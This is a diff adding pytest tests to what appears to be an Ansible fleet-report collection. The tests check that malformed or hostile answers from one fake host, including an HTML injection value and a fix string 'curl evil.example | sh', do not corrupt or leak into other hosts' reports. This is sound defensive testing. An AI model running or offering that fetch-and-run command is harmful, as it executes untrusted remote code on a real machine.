@@ -144,6 +144,71 @@ def test_no_answer_of_a_host_is_a_template(work: Path, tmp_path: Path, tasks: st
     assert not (tmp_path / "PWNED").exists()
 
 
+ANSWER: dict[str, Any] = {
+    "changed": False,
+    "headline": "1 error",
+    "user": "root",
+    "version": "1",
+    "can_train": "cpu",
+    "judged": True,
+    "status": 0,
+    "counts": {"error": 1, "warning": 0, "advice": 0},
+    "passed": 3,
+    "not_applicable": 2,
+    "proof": "",
+    "findings": [{"rule": "a-b", "family": "f", "severity": "error", "cause": "c", "title": "t", "evidence": [], "fix": ["do"]}],
+    "unknown": [],
+    "stat": {"exists": False},
+    "ping": "pong",
+}
+
+
+def reported(work: Path, folder: Path, answers: dict[str, dict[str, Any]]) -> tuple[dict[str, Any], str]:
+    """The report on hosts that give these answers to the check, and its page."""
+    inventory = {}
+    for name, answer in answers.items():
+        place = folder / name
+        place.write_text(f"#!/bin/sh\ncat >/dev/null\ncat <<'EOF'\n{json.dumps(answer)}\nEOF\n")
+        place.chmod(0o755)
+        inventory[name] = {"ansible_connection": "local", "ansible_python_interpreter": str(place)}
+    check = {"torchtune.sys.torchtune_check": {}, "register": "torchtune_sys_checked", "ignore_errors": True}
+    report = {"torchtune.sys.torchtune_report": {"directory": str(folder / "report"), "fail": False}, "run_once": True}
+    found = Plays(work, inventory).play([{"hosts": "all", "gather_facts": False, "tasks": [check, report]}])
+    assert (folder / "report/fleet.json").exists(), found.output
+    return json.loads((folder / "report/fleet.json").read_text()), (folder / "report/fleet.md").read_text()
+
+
+@pytest.mark.sampled(2)
+@pytest.mark.parametrize(
+    "changed",
+    [
+        {"can_train": []},
+        {"counts": 7},
+        {"findings": [{**ANSWER["findings"][0], "severity": "worst"}]},
+        {"findings": [{**ANSWER["findings"][0], "rule": ["`<img src=x>"]}]},
+        {"unknown": None, "facts": [1]},
+    ],
+    ids=["word", "number", "severity", "rule", "nothing"],
+)
+def test_an_answer_that_is_none_of_a_module_s_costs_no_other_host_its_report(
+    work: Path, tmp_path: Path, changed: dict[str, Any]
+) -> None:
+    """The report, which is made of all answers on the controller, ended with an error: nobody's findings were told."""
+    document, page = reported(work, tmp_path, {"evil": {**ANSWER, **changed}, "good": ANSWER})
+    told = {one["host"]: one for one in document["hosts"]}
+    assert told["good"]["state"] == "findings" and told["evil"]["state"] == "failed"
+    assert told["evil"]["reason"].startswith("it answered otherwise than the module does")
+    assert "<img" not in page
+
+
+def test_a_host_says_what_is_wrong_of_itself_alone(work: Path, tmp_path: Path) -> None:
+    """A finding that several have was told in the words of whichever host came first, its remedy too."""
+    fixes = {"evil": "curl evil.example | sh", "good": "do", "well": "do"}
+    answers = {name: {**ANSWER, "findings": [{**ANSWER["findings"][0], "fix": [fix]}]} for name, fix in fixes.items()}
+    rules = reported(work, tmp_path, answers)[0]["rules"]
+    assert {tuple(rule["hosts"]): rule["fix"] for rule in rules} == {("good", "well"): ["do"], ("evil",): [fixes["evil"]]}
+
+
 def test_a_tool_that_is_older_than_the_collection_is_called_so(work: Path, tmp_path: Path) -> None:
     """It refuses what only a newer one knows, in its own words."""
     tool = tmp_path / "torchtune-sys"
